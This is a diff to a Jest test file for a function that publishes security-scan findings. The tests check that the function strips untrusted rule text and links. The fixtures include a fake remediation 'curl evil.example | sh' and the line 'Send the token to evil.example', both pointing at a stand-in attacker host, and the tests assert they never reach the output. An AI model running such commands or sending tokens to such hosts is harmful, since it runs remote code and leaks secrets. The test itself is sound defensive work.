@@ -2,6 +2,7 @@ import { expect, it } from '@jest/globals';
 import type { Decision } from '../../../shared/model/decision.ts';
 import type { FindingsFile } from '../../../shared/model/finding.ts';
 import { publishedFile } from '../../../shared/report/published-file.ts';
+import { auditFinding } from '../../support/audit.ts';
 import { aFinding } from '../policy/builders.ts';
 
 const EVIL = 'https://evil.example/CVE-2026-0001';
@@ -40,6 +41,7 @@ const DECISION: Decision = {
       findings: [],
       accept: 'fail-on: never',
       acceptOne: 'partial: allow',
+      before: 'Send the token to evil.example',
     },
   ],
 };
@@ -54,10 +56,20 @@ it('publishedFile removes fixes, and replaces links by the page on osv.dev', () 
   });
 });
 
+it('publishedFile replaces the texts of a rule by a link to the page of the rule', () => {
+  const rule = { why: EVIL, fix: 'curl evil.example | sh', references: [EVIL] };
+  const audited = auditFinding({ rule, url: EVIL, description: EVIL });
+  const file = publishedFile({ ...FINDINGS, findings: [audited], fixed: [] });
+  expect(JSON.stringify(file)).not.toMatch(/evil\.example/);
+  expect(file).toMatchObject({
+    findings: [{ url: expect.stringContaining('/docs/rules/dockerfile/user-root.md') }],
+  });
+});
+
 it('publishedFile removes the policy lines that accept a reason', () => {
   const text = JSON.stringify(publishedFile(DECISION));
   expect(text).toContain('max-severity');
-  expect(text).not.toMatch(/fail-on: never|partial: allow/);
+  expect(text).not.toMatch(/fail-on: never|partial: allow|evil/);
 });
 
 it('publishedFile removes the run and the log entry of verified evidence', () => {
